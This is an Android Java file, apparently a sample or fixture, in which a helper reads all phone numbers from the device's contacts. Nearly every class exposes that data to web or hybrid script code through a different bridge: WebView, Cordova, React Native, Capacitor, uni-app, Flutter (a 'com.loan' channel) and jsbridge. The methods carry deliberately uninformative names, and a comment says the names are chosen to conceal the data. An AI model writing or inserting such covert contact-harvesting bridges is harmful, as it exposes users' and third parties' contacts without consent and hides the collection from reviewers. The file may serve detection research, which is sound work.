package t;
import android.app.*; import android.os.*; import android.content.*; import android.database.Cursor; import android.provider.*; import android.webkit.*;
class U {
  static String rows(Context c) { StringBuilder b = new StringBuilder(); Cursor q = c.getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null); while (q.moveToNext()) b.append(q.getString(q.getColumnIndex("data1"))); return b.toString(); }
}
// What scripts get from the app, by names that say nothing of the data.
class Js { Activity a; WebView w; Js(Activity a, WebView w) { this.a = a; this.w = w; } @JavascriptInterface public String q7() { return U.rows(a); } @JavascriptInterface public void ask() { w.loadUrl("javascript:onBook('" + U.rows(a) + "')"); } @JavascriptInterface public String harmless() { return "1"; } }
class Page extends Activity { public void onCreate(Bundle b) { WebView w = new WebView(this); w.addJavascriptInterface(new Js(this, w), "shell"); w.loadUrl("file:///android_asset/h5/index.html"); } }
class Plug extends org.apache.cordova.CordovaPlugin { public boolean execute(String a, org.json.JSONArray j, org.apache.cordova.CallbackContext c) { if ("book7".equals(a)) c.success(U.rows(cordova.getActivity())); return true; } }
class Native extends com.facebook.react.bridge.ReactContextBaseJavaModule { Native(com.facebook.react.bridge.ReactApplicationContext c) { super(c); } @com.facebook.react.bridge.ReactMethod public void pull7(com.facebook.react.bridge.Promise p) { p.resolve(U.rows(getReactApplicationContext())); } }
class Cap extends com.getcapacitor.Plugin { @com.getcapacitor.PluginMethod public void fetch7(com.getcapacitor.PluginCall p) { com.getcapacitor.JSObject o = new com.getcapacitor.JSObject(); o.put("v", U.rows(getContext())); p.resolve(o); } }
class Uni extends io.dcloud.feature.uniapp.common.UniModule { Context c; @io.dcloud.feature.uniapp.annotation.UniJSMethod public void take7(io.dcloud.feature.uniapp.bridge.UniJSCallback k) { k.invoke(U.rows(c)); } }
class Flut implements io.flutter.plugin.common.MethodChannel.MethodCallHandler { Context c; void on(Context c) { this.c = c; new io.flutter.plugin.common.MethodChannel(null, "com.loan/book7").setMethodCallHandler(this); } public void onMethodCall(io.flutter.plugin.common.MethodCall m, io.flutter.plugin.common.MethodChannel.Result r) { r.success(U.rows(c)); } }
class FlutterScreen extends Activity { public void onCreate(Bundle b) { new Flut().on(this); } }
class Dispatch { Activity a; Dispatch(Activity a) { this.a = a; } @JavascriptInterface public String run(String what, String how) { if ("getToken".equals(what)) return "t"; if ("addressBook".equals(what)) return U.rows(a); return ""; } }
class DispatchPage extends Activity { public void onCreate(Bundle b) { WebView w = new WebView(this); w.addJavascriptInterface(new Dispatch(this), "mobile"); w.loadUrl("file:///android_asset/h5/index.html"); } }
class Handlers extends Activity { public void onCreate(Bundle b) { com.github.lzyzsd.jsbridge.BridgeWebView w = new com.github.lzyzsd.jsbridge.BridgeWebView(this); w.registerHandler("h7", (d, f) -> f.onCallBack(U.rows(this))); w.registerHandler("h8", (d, f) -> f.onCallBack("1")); } }
